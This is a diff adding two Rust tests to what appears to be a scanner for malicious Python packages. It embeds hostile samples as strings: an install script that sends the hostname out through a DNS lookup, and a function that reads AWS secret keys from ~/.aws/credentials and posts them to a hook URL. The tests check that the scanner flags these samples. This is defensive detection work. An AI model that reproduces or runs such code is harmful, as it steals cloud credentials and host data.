@@ -259,3 +259,33 @@ def go():
     let f = run("pkg/installer.py", FileRole::Module, src);
     assert!(has(&f, "download-exec"), "{f:#?}");
 }
+
+#[test]
+fn host_data_to_dns_tool_at_install() {
+    let src = "import socket, subprocess\nh = socket.gethostname()\nsubprocess.Popen(['dig', '+short', f'{h}.canary.invalid'])\n";
+    let f = run("x/setup.py", FileRole::SetupScript, src);
+    assert!(has(&f, "install-shell"), "{f:#?}");
+    let benign = "import subprocess\nsubprocess.check_call(['ping', '-c1', '127.0.0.1'])\n";
+    let f = run("x/setup.py", FileRole::SetupScript, benign);
+    assert!(critical(&f).is_empty(), "{f:#?}");
+}
+
+#[test]
+fn credentials_file_parsed_and_posted() {
+    let src = r#"
+import os, json, configparser, requests
+def push(hook):
+    config = configparser.RawConfigParser()
+    path = os.path.join(os.path.expanduser('~'), '.aws/credentials')
+    config.read(path)
+    out = []
+    for section in config.sections():
+        out.append({'k': config.get(section, 'aws_secret_access_key')})
+    requests.post(hook, json=json.dumps(out))
+"#;
+    let f = run("pkg/q.py", FileRole::Module, src);
+    assert!(has(&f, "exfiltration"), "{f:#?}");
+    let benign = "import os, configparser\ndef region():\n    c = configparser.ConfigParser()\n    c.read(os.path.expanduser('~/.aws/config'))\n    return c.get('default', 'region')\n";
+    let f = run("pkg/cfg.py", FileRole::Module, benign);
+    assert!(critical(&f).is_empty(), "{f:#?}");
+}
